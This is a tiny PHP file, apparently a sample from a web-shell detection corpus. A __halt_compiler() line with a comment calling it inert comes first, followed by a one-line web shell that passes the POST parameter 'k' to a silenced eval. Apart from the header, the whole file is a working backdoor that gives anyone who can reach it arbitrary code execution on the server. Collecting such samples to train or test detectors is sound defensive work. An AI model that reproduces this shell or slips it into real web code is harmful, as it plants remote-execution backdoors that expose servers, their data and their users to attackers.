<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$zdy = $_POST;
$f = 'k';
@eval($zdy[$f]);
